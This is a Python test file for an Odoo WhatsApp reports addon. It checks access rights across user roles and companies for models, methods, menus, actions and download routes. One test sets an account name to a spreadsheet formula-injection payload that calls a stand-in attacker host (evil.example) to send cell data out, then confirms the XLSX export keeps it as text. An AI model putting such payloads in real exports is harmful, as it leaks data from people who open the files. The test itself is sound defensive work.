"""Access matrix of the reports (issue 11): models, dashboard calls, monthly
report actions, menus, actions and download routes as public, portal, agent
and manager of company A, manager of company B (tables below; the case is the
core addon's ``access_matrix``). Reports only read; company B sees nothing of
company A. Downloaded spreadsheets never turn user text into formulas."""

import io
from datetime import datetime

from openpyxl import load_workbook

from odoo.tests import tagged

from odoo.addons.spoki_whatsapp.tests.access_matrix import (
    AGENTS,
    EVERYBODY,
    NAVIGATION,
    WA_USERS,
    AccessMatrixCase,
    Call,
    Route,
)

MODELS = {
    "spoki.message.report": ("r", "r", False),
    "spoki.monthly.report": ("rwc", "rwcd", False),
    "spoki.monthly.report.line": ("r", "r", False),
}

METHODS = {
    ("spoki.dashboard", "get_dashboard_data"): Call(AGENTS, on="model", kwargs=lambda case: _account(case)),
    ("spoki.dashboard", "get_chart_data"): Call(AGENTS, on="model", kwargs=lambda case: _account(case)),
    ("spoki.dashboard", "get_month_data"): Call(AGENTS, on="model", kwargs=lambda case: _account(case)),
    ("spoki.monthly.report", "action_open_month"): Call(
        AGENTS, on="model", kwargs=lambda case: dict(_account(case), year=2025, month=3)
    ),
    ("spoki.monthly.report", "action_refresh"): Call(AGENTS),
    # the download routes check the report (see ROUTES)
    ("spoki.monthly.report", "action_download_csv"): Call(NAVIGATION),
    ("spoki.monthly.report", "action_download_xlsx"): Call(NAVIGATION),
    # internal users; the PDF is rendered with the user's rights (report route)
    ("spoki.monthly.report", "action_print_pdf"): Call(WA_USERS),
}

MENUS = {
    "spoki_menu_dashboard": WA_USERS,
    "spoki_menu_reporting_messages": WA_USERS,
    "spoki_menu_reporting_monthly": WA_USERS,
}

ACTIONS = {
    "spoki_message_report_action": WA_USERS,
    "spoki_monthly_report_action": WA_USERS,
    "spoki_monthly_report_action_pdf": WA_USERS,
    # a client action: the page loads for anybody, its data comes from get_dashboard_data
    "spoki_dashboard_action": EVERYBODY,
}

ROUTES = {
    "/spoki_whatsapp_reports/monthly/<int:report_id>/<string:fmt>": [
        Route(
            lambda case: f"/spoki_whatsapp_reports/monthly/{case.samples['spoki.monthly.report'].id}/xlsx", ok=AGENTS
        ),
        Route(lambda case: f"/spoki_whatsapp_reports/monthly/{case.samples['spoki.monthly.report'].id}/csv", ok=AGENTS),
    ],
    "/spoki_whatsapp_reports/chart/<string:fmt>": Route(
        lambda case: f"/spoki_whatsapp_reports/chart/csv?account_id={case.account.id}", ok=AGENTS
    ),
}


def _account(case):
    return {"account_id": case.account.id}


@tagged("post_install", "-at_install")
class TestReportsAccessMatrix(AccessMatrixCase):
    addon = "spoki_whatsapp_reports"
    matrix_models = MODELS
    matrix_methods = METHODS
    matrix_menus = MENUS
    matrix_actions = ACTIONS
    matrix_routes = ROUTES

    @classmethod
    def _build_samples(cls):
        env = cls.env
        when = datetime(2025, 3, 10, 10, 0, 0)
        env["spoki.message"].create(
            {
                "account_id": cls.account.id,
                "wa_phone": "+393470003001",
                "kind": "text",
                "body": "Hello",
                "state": "sent",
                "message_date": when,
                "sent_at": when,
            }
        )
        env.flush_all()
        report = env["spoki.monthly.report"].create(
            {"account_id": cls.account.id, "year": 2025, "month": "3", "tz": "Europe/Rome"}
        )
        return {
            "spoki.message.report": env["spoki.message.report"].search([("account_id", "=", cls.account.id)], limit=1),
            "spoki.monthly.report": report,
            "spoki.monthly.report.line": report.line_ids[:1],
        }

    def test_monthly_xlsx_account_name_is_text(self):
        """An account named like a formula stays text in the monthly XLSX."""
        name = '=HYPERLINK("https://evil.example/?d="&B2,"Open")'
        self.account.name = name
        report = self.samples["spoki.monthly.report"]
        sheet = load_workbook(io.BytesIO(report._export_xlsx()))["Totals"]
        cell = next(row[1] for row in sheet.iter_rows(min_row=2) if row[1].value == name)
        self.assertEqual(cell.data_type, "s")
